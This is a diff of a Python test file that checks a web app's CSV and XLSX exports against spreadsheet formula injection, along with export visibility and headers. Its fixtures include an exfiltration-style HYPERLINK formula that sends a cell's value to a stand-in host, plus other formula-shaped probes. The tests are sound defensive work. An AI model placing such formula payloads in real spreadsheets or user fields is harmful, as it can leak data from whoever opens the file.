@@ -1,13 +1,20 @@
-"""Exports: CSV (UTF-8 with BOM) and XLSX hold the same rows; organisers only."""
+"""Exports: CSV (UTF-8 with BOM) and XLSX hold the same rows; organisers only; user text never
+becomes a formula; needs only as the organiser's pages show them."""
 
 import csv
 import io
+import zipfile
 
 import pytest
 from openpyxl import load_workbook
+from sqlalchemy import select
 
-from tests.competitions.builders import reviewed
-from tests.factories import login, make_need, make_offering, make_user
+from matchmaker import csvfile
+from matchmaker.accounts.models import User
+from matchmaker.dashboard.spreadsheet import Table, to_xlsx
+from matchmaker.extensions import db
+from tests.competitions.builders import make_round, reviewed
+from tests.factories import login, make_need, make_offering, make_org, make_user
 
 TABLES = ("needs", "offerings", "applications", "audit")
 
@@ -25,7 +32,7 @@ def csv_rows(content: bytes) -> list[list[str]]:
 @pytest.fixture
 def organiser_client(client, app_ctx):
     scene = reviewed(n_apps=2, n_experts=2)
-    make_need(status="draft", title="染料配方需求，含“引号”, 逗号")
+    make_need(status="published", title="染料配方需求，含“引号”, 逗号")
     make_offering(status="published", price_min=12.5, price_max=30)
     login(client, scene["organiser"].email)
     return client, scene
@@ -80,3 +87,126 @@ def test_non_organisers_cannot_export(client, app_ctx):
     assert response.status_code == 302 and "/login" in response.headers["Location"]
     login(client, make_user(role="expert").email)
     assert client.get("/console/exports/audit.xlsx").status_code == 403
+
+
+# --- formula injection (OWASP CSV injection) ---------------------------------------------
+
+FORMULA = '=HYPERLINK("http://x/?c="&E2,"查看详情")'
+
+
+@pytest.fixture
+def hostile(client, app_ctx):
+    """User text shaped like formulas: a need by an unapproved factory, an organisation name,
+    a town and a KPI."""
+    factory = make_org("factory", approved=False, name="@恶意工厂")
+    need = make_need(factory, status="submitted", title=FORMULA, town="+1+2")
+    need.kpis[0].indicator = "@SUM(A1)"
+    db.session.commit()
+    make_offering(make_org("vendor", name="=1+1 供应商"), status="published")
+    organiser = make_user(role="organiser", name="-2+3 主办方")
+    login(client, organiser.email)
+    return client
+
+
+def sheet_xml(content: bytes) -> str:
+    with zipfile.ZipFile(io.BytesIO(content)) as book:
+        names = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
+        return "".join(book.read(name).decode("utf-8") for name in names)
+
+
+@pytest.mark.parametrize("name", TABLES)
+def test_xlsx_has_no_formula_cells(hostile, name):
+    content = hostile.get(f"/console/exports/{name}.xlsx").data
+    assert "<f>" not in sheet_xml(content) and "<f " not in sheet_xml(content)
+
+
+def test_xlsx_keeps_the_text_as_typed_and_numbers_as_numbers(hostile):
+    sheet = load_workbook(io.BytesIO(hostile.get("/console/exports/needs.xlsx").data)).active
+    header = [c.value for c in sheet[1]]
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[1].value == FORMULA)
+    assert row[1].data_type == "s"
+    assert row[header.index("town")].value == "+1+2"
+    assert row[header.index("owner")].value == "@恶意工厂"
+    assert row[header.index("kpis")].value.startswith("@SUM(A1)")
+    assert row[header.index("id")].data_type == "n"
+    assert row[header.index("budget_min")].value == 30
+
+
+def test_csv_cells_that_look_like_formulas_start_with_a_quote(hostile):
+    rows = csv_rows(hostile.get("/console/exports/needs.csv").data)
+    header = rows[0]
+    row = next(r for r in rows if r[1].startswith("'=HYPERLINK"))
+    assert row[1] == "'" + FORMULA
+    assert row[header.index("town")] == "'+1+2"
+    assert row[header.index("owner")] == "'@恶意工厂"
+    assert row[header.index("kpis")].startswith("'@SUM(A1)")
+    assert row[header.index("budget_min")] == "30"
+    offerings = csv_rows(hostile.get("/console/exports/offerings.csv").data)
+    assert any(r[offerings[0].index("vendor")] == "'=1+1 供应商" for r in offerings[1:])
+
+
+def test_audit_log_exports_neutralise_the_actor(hostile, app_ctx):
+    organiser = db.session.scalar(select(User).where(User.role == "organiser"))
+    make_round(organiser)
+    for url in ("/console/exports/audit.csv", "/rounds/console/audit.csv"):
+        rows = csv_rows(hostile.get(url).data)
+        assert rows[1][rows[0].index("actor")] == "'-2+3 主办方"
+    assert "<f>" not in sheet_xml(hostile.get("/console/exports/audit.xlsx").data)
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1+2", "'+1+2"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("-3.5", "-3.5"),
+        ("普通文本 =1", "普通文本 =1"),
+        ("", ""),
+    ],
+)
+def test_neutralise_follows_the_owasp_rule(text, expected):
+    assert csvfile.cell(text) == expected
+
+
+def test_numbers_stay_numbers():
+    assert csvfile.cell(-3) == -3 and csvfile.cell(2.5) == 2.5 and csvfile.cell(None) == ""
+
+
+def test_xlsx_drops_control_characters_instead_of_failing():
+    table = Table("t", ("a",), [("坏\x01字符",)])
+    assert load_workbook(io.BytesIO(to_xlsx(table))).active["A2"].value == "坏字符"
+
+
+# --- visibility: the exports follow the pages' rule --------------------------------------
+
+
+def test_needs_export_leaves_out_drafts_the_organiser_cannot_open(client, app_ctx):
+    factory = make_org("factory")
+    private = make_need(factory, "draft", make_user(factory), title="工厂自己的草稿")
+    organiser = make_user(role="organiser")
+    imported = make_need(factory, "draft", organiser, title="主办方导入的草稿")
+    make_need(factory, "submitted", title="已提交的需求")
+    login(client, organiser.email)
+    assert client.get(f"/needs/{private.id}").status_code == 404
+    assert client.get(f"/needs/{imported.id}").status_code == 200
+    for fmt, rows in (
+        ("csv", lambda r: csv_rows(r.data)),
+        ("xlsx", lambda r: xlsx_rows(r.data)),
+    ):
+        titles = {row[1] for row in rows(client.get(f"/console/exports/needs.{fmt}"))}
+        assert "工厂自己的草稿" not in titles
+        assert {"主办方导入的草稿", "已提交的需求"} <= titles
+
+
+# --- headers -------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("url", ["/console/exports/needs.csv", "/rounds/console/audit.csv"])
+def test_csv_content_type_names_the_charset_once(organiser_client, url):
+    client, _scene = organiser_client
+    response = client.get(url)
+    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
